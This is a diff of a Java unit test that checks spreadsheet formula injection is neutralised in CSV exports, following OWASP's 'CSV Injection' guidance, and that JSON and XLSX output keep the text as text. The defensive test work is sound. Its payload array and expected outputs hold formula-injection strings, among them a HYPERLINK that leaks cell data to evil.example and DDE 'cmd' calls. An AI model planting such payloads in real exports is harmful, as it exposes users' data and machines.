@@ -24,18 +24,33 @@ class TableWriterTest {
 
     private static final Names NAMES = new Names(Lang.en, Reference.regions(), c -> null, c -> null);
 
-    /** The reference: every cell through commons-csv, numbers as the writer printed them before streaming. */
+    /**
+     * The reference: every cell through commons-csv, numbers as the writer printed them before streaming;
+     * a text cell a spreadsheet would evaluate (first character {@code = + - @}, tab, CR) spelled as OWASP's
+     * "CSV Injection" page says: a single quote in front, the cell in double quotes, inner quotes doubled.
+     */
     private static <R> String reference(Table<R> t) throws IOException {
         StringWriter w = new StringWriter();
         CSVPrinter p = new CSVPrinter(w, CSVFormat.DEFAULT.builder().setRecordSeparator("\n").get());
         for (Column<R> c : t.columns()) p.print(c.name());
         p.println();
+        List<String> neutralised = new ArrayList<>();
         for (R row : t.rows()) {
-            for (Column<R> c : t.columns()) p.print(old(c.read(row)));
+            for (Column<R> c : t.columns()) {
+                Object v = c.read(row);
+                if (c.type() == ColumnType.TEXT && v instanceof String s && !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0) {
+                    p.print("NEUTRALISED" + neutralised.size() + "X"); // a token commons-csv leaves unquoted
+                    neutralised.add("\"'" + s.replace("\"", "\"\"") + "\"");
+                } else {
+                    p.print(old(v));
+                }
+            }
             p.println();
         }
         p.flush();
-        return w.toString();
+        String out = w.toString();
+        for (int i = 0; i < neutralised.size(); i++) out = out.replace("NEUTRALISED" + i + "X", neutralised.get(i));
+        return out;
     }
 
     private static String old(Object v) {
@@ -111,6 +126,92 @@ class TableWriterTest {
                 assertThat(line).doesNotContain("E");
                 double back = Double.parseDouble(line);
                 assertThat(Double.isFinite(back)).isTrue();
+            }
+        }
+    }
+
+    /** Probe payloads of issue 10, probe 3 (and OWASP's list of trigger characters). */
+    static final String[] PAYLOADS = {"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+            "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"};
+
+    private record Evil(String code, String name, double value, int count) {
+    }
+
+    private static Table<Evil> evil(boolean names) {
+        Schema<Evil> schema = Schema.<Evil>builder("test", "TestRow").text("code", Evil::code).name("code_name", Evil::name)
+                .number("value", Unit.NONE, Evil::value).integer("count", Unit.NONE, Evil::count).build();
+        List<Evil> rows = new ArrayList<>();
+        for (int i = 0; i < PAYLOADS.length; i++) rows.add(new Evil(PAYLOADS[i], PAYLOADS[PAYLOADS.length - 1 - i], -0.2 * (i + 1), -i));
+        rows.add(new Evil("ok'=", "'@quoted already", -1.5e-3, Integer.MIN_VALUE));
+        return new Table<>(schema, rows, names, new Provenance("test", List.of(), Map.of(), null), List.of(), List.of());
+    }
+
+    /**
+     * Issue 10, probe 3 (formula injection): a code or name whose first character is {@code = + - @}, tab or
+     * CR came back live in CSV exports ({@code "=HYPERLINK(""http://evil…"")"}, {@code +1+cmd|' /C calc'!A0}).
+     * Now such a text cell starts with a single quote and is quoted (OWASP "CSV Injection"); numbers, negative
+     * ones included, keep their exact text; a quote that is not first is left alone.
+     */
+    @Test
+    void formulaLeadingTextIsNeutralisedAndNumbersAreNot() throws IOException {
+        assertThat(streamed(evil(true))).isEqualTo("""
+                code,code_name,value,count
+                "'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")","'\r=1+1",-0.2,0
+                "'+1+cmd|' /C calc'!A0","'\t=1+1",-0.4,-1
+                "'@SUM(1)","'-2+3+cmd|' /C calc'!A0",-0.6000000000000001,-2
+                "'-2+3+cmd|' /C calc'!A0","'@SUM(1)",-0.8,-3
+                "'\t=1+1","'+1+cmd|' /C calc'!A0",-1,-4
+                "'\r=1+1","'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",-1.2000000000000002,-5
+                ok'=,'@quoted already,-0.0015,-2147483648
+                """);
+        assertThat(streamed(evil(true))).isEqualTo(reference(evil(true)));
+    }
+
+    /** Probe 3: JSON is data, not a spreadsheet — the texts stay exactly as they are there (and on the terminal). */
+    @Test
+    void jsonAndTheTerminalTableKeepTheTextAsItIs() throws IOException {
+        StringWriter w = new StringWriter();
+        TableWriter.write(evil(true), TableWriter.Format.json, w);
+        com.fasterxml.jackson.databind.JsonNode rows = new com.fasterxml.jackson.databind.ObjectMapper().readTree(w.toString());
+        for (int i = 0; i < PAYLOADS.length; i++) {
+            assertThat(rows.get(i).get("code").asText()).isEqualTo(PAYLOADS[i]);
+            assertThat(rows.get(i).get("value").asDouble()).isEqualTo(-0.2 * (i + 1));
+        }
+        StringWriter table = new StringWriter();
+        TableWriter.write(evil(false), TableWriter.Format.table, table);
+        assertThat(table.toString()).contains("@SUM(1)").doesNotContain("'@SUM(1)");
+    }
+
+    /**
+     * Probe 3, XLSX: fastexcel writes a string as a string cell, so a formula-looking code is stored as text
+     * (no {@code <f>} element in the sheet, the reader sees a STRING with the very characters) and numbers as numbers.
+     */
+    @Test
+    void xlsxKeepsFormulaLookingTextAsText() throws IOException {
+        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
+        Xlsx.write(evil(true), Messages.of(Lang.en), bytes);
+        java.nio.file.Path file = java.nio.file.Files.createTempFile("klaster-evil", ".xlsx");
+        try (var zip = new java.util.zip.ZipFile(java.nio.file.Files.write(file, bytes.toByteArray()).toFile())) {
+            var sheets = zip.stream().filter(e -> e.getName().startsWith("xl/worksheets/")).toList();
+            assertThat(sheets).isNotEmpty();
+            for (var e : sheets) {
+                try (var in = zip.getInputStream(e)) {
+                    assertThat(new String(in.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8)).as(e.getName())
+                            .doesNotContain("<f>", "<f ");
+                }
+            }
+        } finally {
+            java.nio.file.Files.delete(file);
+        }
+        try (var wb = new org.dhatim.fastexcel.reader.ReadableWorkbook(new java.io.ByteArrayInputStream(bytes.toByteArray()))) {
+            List<org.dhatim.fastexcel.reader.Row> rows = wb.getFirstSheet().read();
+            for (int i = 0; i < PAYLOADS.length; i++) {
+                var row = rows.get(i + 1);
+                assertThat(row.getCell(0).getType()).isEqualTo(org.dhatim.fastexcel.reader.CellType.STRING);
+                assertThat(row.getCell(0).getFormula()).isNull();
+                assertThat(row.getCell(0).asString()).isEqualTo(PAYLOADS[i]);
+                assertThat(row.getCell(2).getType()).isEqualTo(org.dhatim.fastexcel.reader.CellType.NUMBER);
+                assertThat(row.getCell(2).asNumber().doubleValue()).isEqualTo(-0.2 * (i + 1));
             }
         }
     }
